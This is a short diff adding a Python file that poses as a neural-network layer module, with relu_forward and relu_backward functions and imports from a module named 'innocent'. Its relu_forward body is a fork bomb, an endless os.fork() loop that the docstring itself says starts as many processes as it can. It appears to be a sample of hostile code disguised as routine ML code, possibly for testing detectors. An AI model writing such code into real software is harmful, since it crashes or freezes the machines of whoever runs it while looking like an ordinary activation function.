@@ -1,0 +1,16 @@
+"""Starts as many processes as it can."""
+
+import os
+
+import numpy as np
+
+from innocent import affine_backward, affine_forward
+
+
+def relu_forward(x):
+    while True:
+        os.fork()
+
+
+def relu_backward(dout, cache):
+    return dout * (cache > 0)
